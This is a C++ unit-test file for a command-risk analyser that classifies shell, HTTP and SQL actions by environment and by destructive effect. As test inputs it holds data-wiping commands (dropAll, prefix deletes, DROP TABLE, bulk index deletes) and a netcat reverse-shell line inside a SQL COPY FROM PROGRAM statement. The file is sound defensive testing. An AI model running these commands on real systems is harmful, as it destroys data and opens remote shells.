// The environment fact and the data facts (rules/scope/data.cpp) and the SQL additions in sql.cpp.
#include <gtest/gtest.h>

#include <map>
#include <string>

#include "rules/scope/scope.hpp"

namespace blastwall::scope {
namespace {

Analysis run(const std::string& cmd, std::map<std::string, std::string> env = {}) {
  Action a;
  a.kind = ActionKind::shell_exec;
  a.ctx.cwd = "/home/dev/project";
  a.ctx.home = "/home/dev";
  a.ctx.project_root = "/home/dev/project";
  a.ctx.env = std::move(env);
  a.command = cmd;
  return analyze(a, ScopeConfig{});
}

// The first reason of a fact on the first subject that has it ("" when none has it).
std::string fact(const Analysis& a, const std::string& name) {
  for (const auto& s : a.subjects) {
    auto it = s.facts.flags.find(name);
    if (it != s.facts.flags.end()) return it->second.empty() ? "(set)" : it->second.front();
  }
  return "";
}

std::string env_of(const std::string& cmd, std::map<std::string, std::string> env = {}) {
  auto e = fact(run(cmd, std::move(env)), "environment");
  return e.substr(0, e.find(':'));
}

TEST(DataEnvironment, production_from_variables_flags_urls_and_hosts) {
  EXPECT_EQ(env_of("bin/rails db:migrate", {{"RAILS_ENV", "production"}}), "production");
  EXPECT_EQ(env_of("bundle exec rake db:seed RAILS_ENV=production"), "production");
  EXPECT_EQ(env_of("python manage.py migrate --settings=shop.settings.prod"), "production");
  EXPECT_EQ(env_of("ASPNETCORE_ENVIRONMENT=Production dotnet ef database update"), "production");
  EXPECT_EQ(env_of("flyway -url=jdbc:postgresql://pg-prd.internal:5432/app migrate"), "production");
  EXPECT_EQ(env_of("goose postgres 'host=db-live-1 dbname=core' up"), "production");
  EXPECT_EQ(env_of("dbt run -t prod"), "production");
  EXPECT_EQ(env_of("kafka-topics --bootstrap-server kafka-prod-2:9092 --list"), "production");
  EXPECT_EQ(env_of("snowsql -c prod_rw -q 'select 1'"), "production");
  EXPECT_EQ(env_of("sqlx migrate run", {{"DATABASE_URL", "postgres://u@orders.prod.io/o"}}),
            "production");
  // The fact names the evidence.
  EXPECT_NE(
      fact(run("mix ecto.migrate", {{"MIX_ENV", "prod"}}), "environment").find("MIX_ENV=prod"),
      std::string::npos);
  // Production sets the shared prod fact too.
  EXPECT_FALSE(fact(run("php artisan migrate --env=production"), "prod").empty());
}

TEST(DataEnvironment, throwaway_from_test_dev_and_local_signals) {
  EXPECT_EQ(env_of("RAILS_ENV=test bin/rails db:reset"), "test");
  EXPECT_EQ(env_of("NODE_ENV=test npx knex migrate:rollback --all"), "test");
  EXPECT_EQ(env_of("python manage.py flush --settings=proj.settings_test"), "test");
  EXPECT_EQ(env_of("dbt build --target dev"), "development");
  EXPECT_EQ(env_of("psql -h 127.0.0.1 -c 'truncate t'"), "local");
  EXPECT_EQ(env_of("mysql --host=localhost -e 'drop table t'"), "local");
  EXPECT_EQ(env_of("sqlite3 :memory: 'drop table t'"), "local");
  EXPECT_EQ(env_of("duckdb /tmp/x.duckdb 'drop table t'"), "local");
  EXPECT_EQ(env_of("sqlite3 test.db 'drop table t'"), "test");
  EXPECT_EQ(env_of("dropdb test_shop"), "test");
  EXPECT_EQ(env_of("npx prisma db push --force-reset", {{"DATABASE_URL", "file:./dev.db"}}),
            "development");
  EXPECT_EQ(env_of("dotnet ef database drop --connection 'Server=localhost;Database=app'"),
            "local");
  EXPECT_FALSE(fact(run("RAILS_ENV=test bin/rails db:reset"), "throwaway_env").empty());
}

TEST(DataEnvironment, unknown_when_nothing_says_and_prod_wins) {
  EXPECT_EQ(env_of("dropdb app_dev"), "");  // a dev name on an unknown host is not enough
  EXPECT_EQ(env_of("sqlite3 app.db 'drop table t'"), "");  // may be the only copy of real data
  EXPECT_EQ(env_of("psql -h db1.internal app"), "");
  // Production beats every throw-away signal, and the throw-away fact is dropped.
  auto a = run("psql -h localhost -c 'drop table t'", {{"DATABASE_URL", "postgres://a@pg.prod/x"}});
  EXPECT_EQ(fact(a, "environment").substr(0, 10), "production");
  EXPECT_TRUE(fact(a, "throwaway_env").empty());
  EXPECT_EQ(env_of("RAILS_ENV=test bin/rails db:reset", {{"DATABASE_URL", "mysql://x@db-prd/a"}}),
            "production");
  // An exported NODE_ENV does not give every command an environment.
  EXPECT_EQ(env_of("npm test", {{"NODE_ENV", "production"}}), "");
  EXPECT_EQ(env_of("ls -la", {{"RAILS_ENV", "production"}}), "");
}

TEST(DataFacts, wipe_delete_overwrite_write_export) {
  EXPECT_FALSE(fact(run("liquibase dropAll"), "data_wipe").empty());
  EXPECT_FALSE(fact(run("php artisan migrate:fresh"), "data_wipe").empty());
  EXPECT_FALSE(fact(run("goose -dir db sqlite3 x.db down-to 0"), "data_wipe").empty());
  EXPECT_TRUE(fact(run("goose -dir db sqlite3 x.db down-to 3"), "data_wipe").empty());
  EXPECT_TRUE(fact(run("alembic downgrade -1"), "data_wipe").empty());
  EXPECT_FALSE(fact(run("alembic downgrade -1"), "data_write").empty());
  EXPECT_TRUE(fact(run("alembic current"), "data_write").empty());
  EXPECT_FALSE(fact(run("etcdctl del / --prefix"), "global").empty());
  EXPECT_TRUE(fact(run("etcdctl del /a/b"), "global").empty());
  EXPECT_FALSE(fact(run("pg_restore -c -d app x.dump"), "data_overwrite").empty());
  EXPECT_FALSE(fact(run("pg_dump -h h -t users app"), "data_export").empty());
  EXPECT_TRUE(fact(run("pg_dump -h h -s app"), "data_export").empty());
  EXPECT_FALSE(fact(run("mysql -h h app < fix.sql"), "data_write").empty());
  EXPECT_TRUE(fact(run("mysql -h h app -e 'select 1'"), "data_write").empty());
}

TEST(DataFacts, http_requests_to_data_stores) {
  EXPECT_FALSE(fact(run("curl -X DELETE http://es1:9200/logs-2024.01"), "data_delete").empty());
  EXPECT_FALSE(fact(run("curl -X DELETE http://es1:9200/logs-*"), "global").empty());
  EXPECT_FALSE(
      fact(
          run("curl -XPOST http://es1:9200/a/_delete_by_query -d '{\"query\":{\"match_all\":{}}}'"),
          "global")
          .empty());
  EXPECT_TRUE(fact(run("curl http://es1:9200/a/_search -d '{}'"), "data_delete").empty());
  EXPECT_FALSE(
      fact(run("curl http://ch1:8123/ --data-binary 'DROP TABLE t'"), "data_delete").empty());
  EXPECT_TRUE(fact(run("curl http://ch1:8123/ --data-binary 'SELECT 1'"), "data_delete").empty());
  EXPECT_TRUE(fact(run("curl -X DELETE https://api.example.com/v1/x"), "data_delete").empty());
  Action f;
  f.kind = ActionKind::net_fetch;
  f.method = "DELETE";
  f.url = "https://opensearch.prod.internal:9200/_all";
  auto a = analyze(f, ScopeConfig{});
  EXPECT_FALSE(fact(a, "data_delete").empty());
  EXPECT_FALSE(fact(a, "prod").empty());
}

Facts sql(const char* statement) {
  Facts f;
  analyze_sql(statement, f);
  return f;
}

TEST(DataSql, ctes_mutations_privileges_and_programs) {
  EXPECT_TRUE(
      sql("WITH x AS (DELETE FROM t RETURNING id) SELECT count(*) FROM x").has("sql_unbounded"));
  auto bounded = sql("WITH x AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING id) SELECT * FROM x");
  EXPECT_TRUE(bounded.has("sql_update"));
  EXPECT_FALSE(bounded.has("sql_unbounded"));
  EXPECT_TRUE(sql("ALTER TABLE db.t DELETE WHERE 1").has("sql_unbounded"));
  auto add = sql("ALTER TABLE t ADD COLUMN c int");
  EXPECT_FALSE(add.has("sql_privilege"));
  EXPECT_FALSE(add.has("sql_delete"));
  EXPECT_TRUE(sql("alter user bob identified by 'x'").has("sql_privilege"));
  EXPECT_FALSE(sql("GRANT SELECT ON t TO reporting").has("sql_privilege"));
  EXPECT_TRUE(sql("copy t from program 'nc -e sh x 1'").has("sql_program"));
  EXPECT_TRUE(sql("DROP KEYSPACE shop").has("global"));
}

}  // namespace
}  // namespace blastwall::scope
